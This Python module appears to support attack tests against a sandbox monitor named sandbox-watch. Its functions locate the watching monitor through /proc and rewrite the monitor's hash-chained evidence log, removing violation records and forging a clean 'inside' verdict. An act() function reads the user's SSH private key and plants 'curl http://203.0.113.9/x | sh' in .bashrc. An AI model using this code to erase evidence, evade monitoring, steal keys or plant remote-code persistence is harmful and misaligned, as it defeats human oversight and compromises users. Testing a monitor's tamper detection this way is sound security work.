"""What the log attacks share: reading, editing and re-chaining a sandbox-watch evidence log,
and finding the monitor that watches us. Standard library only.

The hash of a line is the sha256 of its canonical form (the object without `hash`, keys
sorted, no whitespace, serde_json's escaping), exactly as sandbox-watch/src/evidence.rs says:
anyone can recompute it, which is what these attacks use.
"""
import hashlib
import json
import os

ZERO = "0" * 64


def canonical_hash(obj):
    body = {k: v for k, v in obj.items() if k != "hash"}
    text = json.dumps(body, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    return hashlib.sha256(text.encode()).hexdigest()


def read_log(path):
    with open(path, encoding="utf-8") as f:
        return [json.loads(line) for line in f if line.strip()]


def rechain(records):
    """Renumbers seq and recomputes prev and hash of every record, in order."""
    prev = ZERO
    out = []
    for seq, rec in enumerate(records):
        rec = dict(rec)
        rec.pop("hash", None)
        rec["seq"] = seq
        rec["prev"] = prev
        h = canonical_hash(rec)
        # The writer's key order (seq, prev, hash, at, kind, then the rest sorted).
        ordered = {"seq": seq, "prev": prev, "hash": h}
        for k in ("at", "kind"):
            if k in rec:
                ordered[k] = rec[k]
        for k in sorted(rec):
            if k not in ordered:
                ordered[k] = rec[k]
        out.append(ordered)
        prev = h
    return out


def write_log(path, records):
    """Replaces the file's content in place (same inode, same mode)."""
    text = "".join(
        json.dumps(r, separators=(",", ":"), ensure_ascii=False) + "\n" for r in records
    )
    with open(path, "r+", encoding="utf-8") as f:
        f.seek(0)
        f.write(text)
        f.truncate()


def mentions(rec, needles):
    text = json.dumps(rec, separators=(",", ":"), ensure_ascii=False)
    return any(n in text for n in needles)


def scrub(records, needles=(), pids=(), net_of=()):
    """Drops every record naming one of `needles`, about one of `pids`, every network record
    of the processes in `net_of`, and every violation; makes the end record's counts agree
    with what is left."""
    pids = set(pids)
    net_of = set(net_of)
    kept = []
    for r in records:
        if r.get("kind") == "violation":
            continue
        if r.get("pid") in pids or mentions(r, needles):
            continue
        if r.get("kind") in ("net", "net_result") and r.get("pid") in net_of:
            continue
        kept.append(r)
    for r in kept:
        if r.get("kind") == "end":
            r["violations"] = 0
            if isinstance(r.get("verdict"), str):
                r["verdict"] = "inside"
            r["files"] = sum(1 for x in kept if x.get("kind") in ("file", "file_failed"))
            r["processes"] = sum(1 for x in kept if x.get("kind") in ("exec", "process"))
    return rechain(kept)


def monitor_pid():
    """The nearest ancestor whose executable's name starts with sandbox-watch."""
    if os.environ.get("MONITOR_PID"):
        return int(os.environ["MONITOR_PID"])
    pid = os.getppid()
    while pid > 1:
        try:
            exe = os.readlink(f"/proc/{pid}/exe")
        except OSError:
            exe = ""
        if os.path.basename(exe).startswith("sandbox-watch"):
            return pid
        with open(f"/proc/{pid}/stat") as f:
            stat = f.read()
        pid = int(stat[stat.rfind(")") + 2 :].split()[1])
    raise SystemExit("attack: no sandbox-watch among my ancestors (set MONITOR_PID)")


def monitor_args(pid):
    with open(f"/proc/{pid}/cmdline", "rb") as f:
        return [a.decode() for a in f.read().split(b"\0") if a]


def monitor_option(pid, option):
    """--OPTION PATH from the monitor's command line, absolute."""
    args = monitor_args(pid)
    if option not in args:
        return None
    value = args[args.index(option) + 1]
    if os.path.isabs(value):
        return value
    return os.path.join(os.readlink(f"/proc/{pid}/cwd"), value)


def say(what):
    print(f"attack[{os.getpid()}]: {what}", file=os.sys.stderr, flush=True)


def act(home, port=None):
    """The actions the attacks hide: read the key, connect, append to .bashrc."""
    import socket

    with open(os.path.join(home, ".ssh/id_rsa")) as f:
        say(f"read {home}/.ssh/id_rsa ({len(f.read())} bytes)")
    srv = None
    if port is None:
        srv = socket.socket()
        srv.bind(("127.0.0.1", 0))
        srv.listen(1)
        port = srv.getsockname()[1]
    c = socket.socket()
    try:
        c.connect(("127.0.0.1", port))
        say(f"connected to 127.0.0.1:{port}")
    except OSError as e:
        say(f"connect: {e}")
    c.close()
    if srv:
        srv.close()
    with open(os.path.join(home, ".bashrc"), "a") as f:
        f.write("curl http://203.0.113.9/x | sh # planted\n")
    say(f"appended to {home}/.bashrc")
